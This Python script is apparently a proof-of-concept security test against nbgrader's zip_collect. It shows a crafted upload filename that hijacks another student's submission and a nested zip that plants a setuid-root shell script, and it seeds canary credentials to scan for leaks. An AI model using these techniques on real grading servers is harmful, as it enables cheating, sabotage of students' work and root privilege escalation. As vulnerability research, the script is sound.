"""a01: nbgrader zip_collect (the TA collecting LMS downloads) on this course, as root.
LMS names every upload  <assignment>_<student>_attempt_<time>_<original file name>; the student chooses the
original file name. With nbgrader's documented regexp (greedy '.*_'), mallory's upload named
  x_aaron_attempt_2099-01-01-00-00-00_ps1_memory.ipynb
is parsed as aaron's, newer than aaron's own, and replaces it. mallory's second upload is a .zip (nested archives are
extracted by nbgrader, setuptools keeps each entry's unix mode): a setuid-root file in the TA's course."""
import os, sys, subprocess, zipfile, stat, shutil, json
sys.path.insert(0, os.path.dirname(__file__))
from harness import *

d = make_course("zip")
arch = f"{d}/downloaded/ps1_memory/archive"
os.makedirs(arch)
good = solution_nb()
empty = nbformat.read(f"{CLONE}/release/ps1_memory/ps1_memory.ipynb", as_version=4)  # nothing done
nbformat.write(good, f"{arch}/ps1_memory_aaron_attempt_2024-01-30-15-00-00_ps1_memory.ipynb")
nbformat.write(good, f"{arch}/ps1_memory_mallory_attempt_2024-01-30-15-10-00_ps1_memory.ipynb")
nbformat.write(empty, f"{arch}/ps1_memory_mallory_attempt_2024-01-30-15-20-00_x_aaron_attempt_2099-01-01-00-00-00_ps1_memory.ipynb")
nbformat.write(good, f"{arch}/ps1_memory_zoe_attempt_2024-01-30-15-30-00_ps1_memory.ipynb")
# nested archive: an upload that is a zip, with a setuid file inside
z = f"{arch}/ps1_memory_mallory_attempt_2024-01-30-15-40-00_extra.zip"
with zipfile.ZipFile(z, "w") as zf:
    zi = zipfile.ZipInfo("tool")
    zi.external_attr = (0o104755) << 16
    zf.writestr(zi, "#!/bin/sh\nid > /tmp/attack39-root-suid-ran\n")
    zi = zipfile.ZipInfo("wdir/")
    zi.external_attr = (0o040777) << 16
    zf.writestr(zi, "")
regexp = r".*_(?P<student_id>\w+)_attempt_(?P<timestamp>[0-9\-]+)_(?P<file_id>\w+)"
env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "zip_collect", "ps1_memory", f"--FileNameCollectorPlugin.named_regexp={regexp}"],
                   cwd=d, env=env, capture_output=True, text=True)
print("zip_collect rc", r.returncode)
print("\n".join(l for l in (r.stdout + r.stderr).splitlines() if "Copying to" in l or "Replacing" in l or "Skipped" in l or "ERROR" in l or "Extracting" in l))
for root, dirs, files in os.walk(d + "/downloaded"):
    for f in files + dirs:
        p = os.path.join(root, f); st = os.lstat(p)
        if st.st_mode & 0o7000 or st.st_mode & 0o002:
            print("odd mode", oct(st.st_mode), "uid", st.st_uid, p)
for s in sorted(os.listdir(f"{d}/submitted")):
    for f in os.listdir(f"{d}/submitted/{s}/ps1_memory"):
        p = f"{d}/submitted/{s}/ps1_memory/{f}"
        print("submitted:", s, f, open(p).read()[:60].replace("\n", " ") if f.endswith(".txt") else os.path.getsize(p))
r = grade(d)
sc = scores(d)
print("SCORES", sc)
canary_scan(d)
